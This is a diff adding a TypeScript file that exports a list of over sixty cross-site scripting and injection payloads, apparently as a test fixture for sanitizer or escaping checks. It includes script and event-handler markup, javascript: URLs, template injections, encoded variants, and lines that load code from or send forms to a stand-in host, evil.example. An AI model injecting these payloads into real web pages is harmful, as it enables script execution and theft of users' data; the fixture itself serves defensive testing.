@@ -1,0 +1,120 @@
+/** Sixty and more texts that would be code if some place took them for markup, for an address or for a script. */
+export const payloads: readonly string[] = [
+  ...[
+    '<script>alert(1)</script>',
+    '<ScRiPt>alert(1)</sCrIpT>',
+    '<script src=//evil.example/x.js></script>',
+  ],
+  ...[
+    '"><script>alert(1)</script>',
+    `'><script>alert(1)</script>`,
+    '</title><script>alert(1)</script>',
+  ],
+  ...[
+    '</script><script>alert(1)</script>',
+    '</textarea><script>alert(1)</script>',
+    '</style><script>alert(1)</script>',
+  ],
+  ...[
+    '--><script>alert(1)</script>',
+    ']]><script>alert(1)</script>',
+    '<<script>alert(1)//<</script>',
+  ],
+  ...[
+    '<img src=x onerror=alert(1)>',
+    '<img/src=x/onerror=alert(1)>',
+    '"><img src=x onerror=alert(1)>',
+    '<img src=//evil.example/p.png>',
+  ],
+  ...[
+    '<svg onload=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<svg><script>alert(1)</script></svg>',
+    '<svg><a xlink:href=javascript:alert(1)>x',
+  ],
+  ...[
+    '<svg><animate onbegin=alert(1) attributeName=x>',
+    '<svg><use href=//evil.example/x.svg#a>',
+    '<math><mi//xlink:href=javascript:alert(1)>x',
+  ],
+  ...[
+    '<iframe src=javascript:alert(1)>',
+    '<iframe srcdoc="<script>alert(1)</script>">',
+    '<iframe src=//evil.example></iframe>',
+  ],
+  ...[
+    '<object data=javascript:alert(1)>',
+    '<embed src=javascript:alert(1)>',
+    '<body onload=alert(1)>',
+    '<base href=//evil.example/>',
+  ],
+  ...[
+    '<link rel=stylesheet href=//evil.example/x.css>',
+    '<style>@import"//evil.example/x.css"</style>',
+    '<meta http-equiv=refresh content=0;//evil.example>',
+  ],
+  ...[
+    '<form action=//evil.example><button>Go</button>',
+    '<button formaction=javascript:alert(1)>x',
+    '<input autofocus onfocus=alert(1)>',
+  ],
+  ...[
+    '<details open ontoggle=alert(1)>x',
+    '<video><source onerror=alert(1)>',
+    '<audio src=x onerror=alert(1)>',
+    '<marquee onstart=alert(1)>x',
+  ],
+  ...[
+    '<a href=javascript:alert(1)>x</a>',
+    '<a href="java&#09;script:alert(1)">x</a>',
+    '<a href=data:text/html,<script>alert(1)</script>>x',
+  ],
+  ...[
+    'javascript:alert(1)',
+    'JaVaScRiPt:alert(1)',
+    'java\tscript:alert(1)',
+    'vbscript:msgbox(1)',
+    'data:text/html,<script>alert(1)</script>',
+  ],
+  ...[
+    '[x](javascript:alert(1))',
+    '![x](//evil.example/p.png)',
+    '[x]: javascript:alert(1)',
+    '`<img src=x onerror=alert(1)>`',
+    '<http://evil.example>',
+  ],
+  ...[
+    '" onmouseover="alert(1)',
+    "' onfocus='alert(1)' autofocus='",
+    '` onerror=alert(1) `',
+    '"autofocus onfocus=alert(1) x="',
+  ],
+  ...[
+    '{{constructor.constructor("alert(1)")()}}',
+    '${alert(1)}',
+    '#{alert(1)}',
+    '<%= alert(1) %>',
+    '{alert(1)}',
+    "'-alert(1)-'",
+    '";alert(1);//',
+    "\\';alert(1);//",
+  ],
+  ...[
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+    '&#60;img src=x onerror=alert(1)&#62;',
+    '%3Cscript%3Ealert(1)%3C/script%3E',
+    '\\u003cscript\\u003ealert(1)\\u003c/script\\u003e',
+  ],
+  ...[
+    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+    '<template><script>alert(1)</script></template>',
+    '<xmp><img src=x onerror=alert(1)></xmp>',
+  ],
+  ...[
+    '<img name=getElementById><form id=body>',
+    '<a id=location href=//evil.example>',
+    '<input name=attributes>',
+    '$1:constructor:constructor',
+    '{"$$typeof":"react.element"}',
+  ],
+];
